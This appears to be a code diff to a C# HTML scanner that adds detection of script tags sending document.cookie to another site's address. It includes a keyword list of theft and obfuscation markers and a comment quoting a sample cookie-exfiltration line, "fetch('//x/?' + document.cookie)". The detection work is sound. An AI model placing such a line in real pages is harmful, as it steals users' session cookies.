@@ -49,6 +49,12 @@ internal sealed class MarkupReader(CodeFindings findings)
         if (Is(tag, "script"u8))
         {
             findings.Add(Script, start, close);
+            var code = text.Slice(close, text[start + 1] == '/' ? 0 : Math.Min(LongestCode, text.Length - close));
+            findings.Steps += code.Length;
+            if (SendsAway(code))
+            {
+                findings.Add(ScriptTheft, start, close);
+            }
         }
         else if (Is(tag, "iframe"u8) || Is(tag, "object"u8) || Is(tag, "embed"u8) || Is(tag, "applet"u8))
         {
@@ -97,6 +103,24 @@ internal sealed class MarkupReader(CodeFindings findings)
     private static bool HasTheft(ReadOnlySpan<byte> code) =>
         code.IndexOf("document.cookie"u8) >= 0 || code.IndexOf("localStorage"u8) >= 0 || code.IndexOf("eval("u8) >= 0 || code.IndexOf("atob("u8) >= 0
         || code.IndexOf("fromCharCode"u8) >= 0 || code.IndexOf("sendBeacon"u8) >= 0;
+
+    // "fetch('//x/?' + document.cookie)": what the page keeps is written into an address of another site.
+    private static bool SendsAway(ReadOnlySpan<byte> code)
+    {
+        var end = code.IndexOf("</"u8);
+        code = end < 0 ? code : code[..end];
+        for (var at = 0; code[at..].IndexOf("document.cookie"u8) is >= 0 and var found; at += found + 1)
+        {
+            var before = code[..(at + found)].TrimEnd(" (\t\r\n"u8);
+            before = before.EndsWith("btoa"u8) ? before[..^4].TrimEnd(" (\t"u8) : before.EndsWith("encodeURIComponent"u8) ? before[..^18].TrimEnd(" (\t"u8) : before;
+            if ((before.EndsWith("+"u8) || before.EndsWith("${"u8)) && before.IndexOf("//"u8) >= 0)
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
 
     private static bool Is(ReadOnlySpan<byte> name, ReadOnlySpan<byte> lowerCase) => Ascii.EqualsIgnoreCase(name, lowerCase);
 
